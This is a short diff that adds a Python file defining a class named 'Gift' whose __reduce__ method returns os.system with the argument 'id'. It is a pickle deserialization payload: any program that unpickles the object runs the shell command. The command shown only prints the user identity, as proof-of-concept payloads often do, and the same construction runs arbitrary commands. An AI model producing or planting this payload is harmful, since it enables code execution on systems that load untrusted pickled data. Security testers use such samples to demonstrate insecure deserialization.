@@ -1,0 +1,5 @@
+import os
+
+class Gift:
+    def __reduce__(self):
+        return (os.system, ('id',))
